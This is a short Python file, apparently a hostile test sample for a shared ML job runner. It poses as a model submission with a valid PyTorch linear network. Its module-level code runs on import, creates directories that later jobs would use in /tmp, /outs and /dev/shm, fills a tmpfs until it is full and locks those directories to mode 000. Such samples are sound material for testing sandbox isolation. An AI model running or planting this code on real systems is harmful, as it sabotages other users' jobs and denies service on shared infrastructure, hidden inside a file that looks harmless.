"""Warm-pool poisoning: fills every shared tmpfs, inside directories later jobs would use.

In each place a job's uid can write (/tmp, /outs, /dev/shm), creates the directory names the
warm worker once gave the next jobs, fills the first with one file until the tmpfs is full, and
makes them all mode 000. Then defines a valid net (its own predictions may not fit any more).
"""

import os

import torch.nn as nn

for place, pattern in (("/tmp", "job-{}"), ("/outs", "{}"), ("/dev/shm", "{}")):
    made = []
    for n in range(50):
        try:
            os.mkdir(os.path.join(place, pattern.format(n)))
            made.append(os.path.join(place, pattern.format(n)))
        except OSError:
            pass
    if made:
        try:
            with open(os.path.join(made[0], "fill"), "wb") as f:
                while True:
                    f.write(b"\xff" * 2**20)
        except OSError:
            pass  # ENOSPC: the place is full
    for path in made:
        os.chmod(path, 0)


class Net(nn.Module):
    def __init__(self, num_classes=10):
        super().__init__()
        self.fc = nn.Linear(28 * 28, num_classes)

    def forward(self, x):
        return self.fc(x.flatten(1))
